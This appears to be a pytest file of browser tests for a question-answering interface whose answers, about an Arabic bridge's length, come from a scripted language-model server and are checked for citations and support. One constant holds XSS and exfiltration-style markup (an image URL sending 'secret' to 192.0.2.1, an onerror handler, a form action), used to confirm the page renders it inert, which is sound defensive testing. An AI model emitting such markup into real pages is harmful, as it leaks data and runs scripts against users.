"""Answers in a language model's words, in a real browser; the model is a scripted server."""

import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import pytest
from browsing import WAIT_MS, Open, Scripted, serve
from llm_server import LlmServer, Reply
from scripted import LENGTH, with_evidence

from index.config import LlmSettings
from index.embed import Embedder
from rag.check import Checker
from rag.providers import connect
from rag.worded import Worded
from ui.strings import ENGLISH

OPENED, FOLLOW_UP = "متى افتُتح جسر النورس؟", "ومتى افتُتح؟"
SAID = "طول جسر النورس 412 مترًا"
WRONG = "طول جسر النورس 512 مترًا"
HOSTILE = "![](http://192.0.2.1/?q=secret) <img src=x onerror=hacked=1> <form action=//192.0.2.1>"


def says(*lines: str, **further: Any) -> Reply:
    """A model that says these lines; [N] cites the sentence that gives the length."""

    def text(prompt: str) -> str:
        found = re.search(r"^\[(\d+)\] [^\n]*412", prompt, re.MULTILINE)
        return "".join(f"{line}\n" for line in lines).replace("[N]", f"[{found[1]}]" if found else "[N]")

    return Reply(text, **further)


@pytest.fixture(scope="module")
def model() -> Iterator[LlmServer]:
    """The server; each test writes its replies."""
    with LlmServer([""]).serving() as server:
        yield server


@pytest.fixture(scope="module")
def address(
    script: Scripted, model: LlmServer, embedder: Embedder, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """A page whose answers the model words."""
    script.script[LENGTH] = with_evidence(script.script[LENGTH])
    script.script[OPENED] = replace(script.script[LENGTH], question=OPENED)
    llm = connect(LlmSettings(model=model.openai, seconds=WAIT_MS / 1000))
    assert llm is not None
    worded = Worded(script, llm, Checker(embedder.embed_queries))  # type: ignore[arg-type]
    model.replies[:] = [says(f"{SAID} [N].")]
    worded.ask(LENGTH)  # what is imported for the first answer is, before anybody waits
    kept = tmp_path_factory.mktemp("kept") / "conversations.db"
    with serve(lambda: script, kept, words=lambda: worded) as url:
        yield url


Script = Callable[..., None]


@pytest.fixture
def reply(model: LlmServer) -> Script:
    def write(*replies: Reply | str) -> None:
        model.replies[:] = replies
        model.gone.clear()
        model.requests.clear()

    return write


def test_every_sentence_of_a_model_comes_with_its_source_and_its_support(
    visit: Open, address: str, reply: Script
) -> None:
    reply(says(f"{SAID} [N].", f"{WRONG} [N].", f"{SAID} {HOSTILE} [N]."))
    opened = visit(address, locale="en")
    opened.ask(LENGTH)
    page = opened.page
    sentences = page.locator("#conversation .sentence")
    supported = sentences.nth(0)
    assert SAID in supported.inner_text()
    assert ENGLISH.support["supported"] in supported.inner_text()
    assert ENGLISH.support["unsupported"] in sentences.nth(1).inner_text()
    assert "512" in page.locator("#conversation .reason").first.inner_text()
    assert "192.0.2.1" in page.locator("#conversation").inner_text()  # as text
    assert page.locator("#conversation").locator("img, form, a:not(.cite)").count() == 0
    supported.locator(".cite").click()
    page.locator("#src-1-1.lit").wait_for()
    assert "412" in page.locator("#src-1-1 mark").inner_text()
    assert not [request for request in opened.requests if "192.0.2.1" in request]
    assert page.evaluate("window.hacked") is None
    assert opened.complaints == []
    assert opened.overflow() <= 0


def test_a_reader_switches_between_the_models_words_and_the_documents_own(
    visit: Open, address: str, reply: Script, script: Scripted, model: LlmServer
) -> None:
    reply(says(f"{SAID} [N]."))
    opened = visit(address, locale="en")
    opened.ask(LENGTH)
    page = opened.page
    own = [sentence.text for sentence in script.script[LENGTH].sentences]
    assert "scripted" in page.locator(".switch span").inner_text()
    page.get_by_role("button", name=ENGLISH.own_words).click()
    page.locator(".switch span", has_text=ENGLISH.own_words).wait_for()
    assert page.locator("#conversation .said").all_inner_texts() == own
    assert page.locator("#sources .card").count() == 3
    page.reload()
    page.locator(".switch span", has_text=ENGLISH.own_words).wait_for()
    page.locator(".switch button").click()
    page.locator(".switch span", has_text="scripted").wait_for()
    assert page.locator("#conversation .said").all_inner_texts() == [f"{SAID}."]
    page.locator("#worded input").uncheck()
    opened.page.get_by_role("button", name=ENGLISH.retry).click()
    page.locator(".switch").wait_for(state="detached")
    page.locator("#conversation .facts").wait_for()
    assert page.locator("#conversation .said").all_inner_texts() == own
    assert len(model.requests) == 1


def test_a_follow_up_is_shown_as_it_was_understood(visit: Open, address: str, reply: Script) -> None:
    reply(says(f"{SAID} [N]."), OPENED, says(f"{SAID} [N]."))
    opened = visit(address, locale="en")
    opened.ask(LENGTH)
    assert opened.page.locator(".understood").count() == 0
    opened.ask(FOLLOW_UP)
    assert opened.page.locator("#turn-2 .understood q").inner_text() == OPENED


def test_where_the_model_fails_the_documents_own_sentences_stand_with_a_notice(
    visit: Open, address: str, reply: Script, script: Scripted
) -> None:
    reply(Reply(status=401))
    opened = visit(address, locale="en")
    opened.ask(LENGTH)
    page = opened.page
    assert page.locator("#conversation .said").count() == len(script.script[LENGTH].sentences)
    assert page.locator(".notice.worded").inner_text().startswith("لم يُجب النموذج اللغوي")
    assert page.locator(".switch").count() == 0
    assert opened.complaints == []


def test_what_a_model_says_appears_before_it_is_done_and_stopping_it_loses_nothing(
    visit: Open, address: str, reply: Script, script: Scripted, model: LlmServer
) -> None:
    reply(says(f"{SAID} [N].", "وهو", hang=True))
    opened = visit(address, locale="en")
    page = opened.page
    page.locator("#question textarea").fill(LENGTH)
    page.locator("#question textarea").press("Enter")
    page.locator("#conversation .said", has_text=SAID).wait_for()
    assert page.locator("#conversation .searching").inner_text() == ENGLISH.wording
    page.locator("#conversation .cite").first.click()
    page.locator("#src-1-1.lit").wait_for()
    page.locator("#stop").click()
    assert model.gone.wait(20)
    page.locator("#conversation .facts").wait_for()
    own = [sentence.text for sentence in script.script[LENGTH].sentences]
    assert page.locator("#conversation .said").all_inner_texts() == own
